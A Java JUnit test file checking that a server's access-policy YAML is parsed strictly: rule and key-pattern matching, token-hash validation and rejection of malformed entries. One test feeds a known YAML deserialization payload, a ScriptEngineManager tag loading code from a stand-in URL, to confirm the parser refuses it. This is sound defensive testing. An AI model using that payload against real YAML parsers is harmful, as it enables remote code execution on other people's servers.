package io.cipherd.server.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Parsing and strict validation of the access policy YAML, and what its rules match. */
class AccessPolicyFileTest {
  private static final String HASH = BearerTokens.hashHex("t0ken");

  @Test
  void validPolicy_grantsExactlyItsRules() {
    AccessPolicy policy =
        parse(
            """
        callers:
          billing:
            token_sha256: %s
            rules:
              - keys: [payments-*, invoices]
                operations: [encrypt, decrypt]
          rotator:
            rules:
              - keys: ["*"]
                operations: [reencrypt]
        """
                .formatted(HASH));
    assertThat(policy.callers()).isEqualTo(2);
    assertThat(policy.allows("billing", Operation.ENCRYPT, "payments-eu")).isTrue();
    assertThat(policy.allows("billing", Operation.DECRYPT, "invoices")).isTrue();
    assertThat(policy.allows("billing", Operation.REENCRYPT, "invoices")).isFalse();
    assertThat(policy.allows("billing", Operation.ENCRYPT, "payroll")).isFalse();
    assertThat(policy.allows("rotator", Operation.REENCRYPT, "anything")).isTrue();
    assertThat(policy.allows("rotator", Operation.DECRYPT, "anything")).isFalse();
    assertThat(policy.allows("stranger", Operation.ENCRYPT, "payments-eu")).isFalse();
    assertThat(policy.tokens().identify("t0ken")).isEqualTo("billing");
    assertThat(policy.tokens().identify("t0ken ")).isNull();
  }

  @ParameterizedTest(name = "{0} matches {1}: {2}")
  @CsvSource({
    "payments-*, payments-eu, true",
    "payments-*, payments-, true",
    "payments-*, payments, false",
    "payments-*, old-payments-eu, false",
    "*, anything-at-all, true",
    "*-archive, logs-archive, true",
    "*-archive, logs-archive-2, false",
    "a*b*c, a-x-b-y-c, true",
    "invoices, invoices, true",
    "invoices, invoices2, false",
  })
  void keyPatterns_matchWholeNames(String glob, String key, boolean matches) {
    assertThat(KeyPattern.of(glob).matches(key)).isEqualTo(matches);
  }

  @Test
  void unknownOperation_namesLineAndEntry() {
    assertThatThrownBy(
            () ->
                parse(
                    """
        callers:
          billing:
            rules:
              - keys: [payments]
                operations: [encrypt, decypt]
        """))
        .hasMessageContaining("line 5")
        .hasMessageContaining("callers.billing.rules[0].operations")
        .hasMessageContaining("unknown operation 'decypt'")
        .hasMessageContaining("encrypt, decrypt, reencrypt, index, datakey, inspect, admin");
  }

  @Test
  void badKeyPattern_isRejected() {
    assertThatThrownBy(
            () ->
                parse(
                    """
        callers:
          billing:
            rules:
              - keys: ["Payments/*"]
                operations: [encrypt]
        """))
        .hasMessageContaining("line 4")
        .hasMessageContaining("bad key pattern 'Payments/*'");
  }

  @Test
  void emptyTokenHash_isRejected() {
    assertThatThrownBy(
            () ->
                parse(
                    """
        callers:
          billing:
            token_sha256:
            rules: [{keys: [a], operations: [encrypt]}]
        """))
        .hasMessageContaining("callers.billing.token_sha256")
        .hasMessageContaining("64 hex digits");
  }

  @Test
  void truncatedTokenHash_isRejected() {
    assertThatThrownBy(
            () ->
                parse(
                    """
        callers:
          billing:
            token_sha256: %s
            rules: [{keys: [a], operations: [encrypt]}]
        """
                        .formatted(HASH.substring(1))))
        .hasMessageContaining("64 hex digits");
  }

  @Test
  void plainToken_isRefusedAsAnUnknownField() {
    assertThatThrownBy(
            () ->
                parse(
                    """
        callers:
          billing:
            token: hunter2
            rules: [{keys: [a], operations: [encrypt]}]
        """))
        .hasMessageContaining("line 3")
        .hasMessageContaining("unknown field 'token'")
        .hasMessageNotContaining("hunter2'");
  }

  @Test
  void callerWithoutRules_isRejected() {
    assertThatThrownBy(() -> parse("callers:\n  billing:\n    token_sha256: " + HASH + "\n"))
        .hasMessageContaining("callers.billing")
        .hasMessageContaining("needs 'rules'");
  }

  @Test
  void ruleWithoutOperations_isRejected() {
    assertThatThrownBy(() -> parse("callers:\n  billing:\n    rules:\n      - keys: [a]\n"))
        .hasMessageContaining("callers.billing.rules[0]")
        .hasMessageContaining("'operations'");
  }

  @Test
  void emptyOrMisshapenDocuments_areRejected() {
    assertThatThrownBy(() -> parse("")).hasMessageContaining("is empty");
    assertThatThrownBy(() -> parse("rules: []\n")).hasMessageContaining("unknown field 'rules'");
    assertThatThrownBy(() -> parse("callers: [billing]\n"))
        .hasMessageContaining("callers: must be a map");
    assertThatThrownBy(() -> parse("callers: {a: {rules: [{keys: [], operations: [encrypt]}]}}\n"))
        .hasMessageContaining("keys: must not be empty");
  }

  @Test
  void yamlTags_areNotInstantiated() {
    assertThatThrownBy(
            () ->
                parse(
                    "callers: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]\n"))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void shippedExample_isValid() throws Exception {
    AccessPolicy policy =
        AccessPolicyFile.load(Path.of("..", "deploy", "access-policy.example.yaml"));
    assertThat(policy.callers()).isPositive();
  }

  private static AccessPolicy parse(String yaml) {
    return AccessPolicyFile.parse("test.yaml", new StringReader(yaml));
  }
}
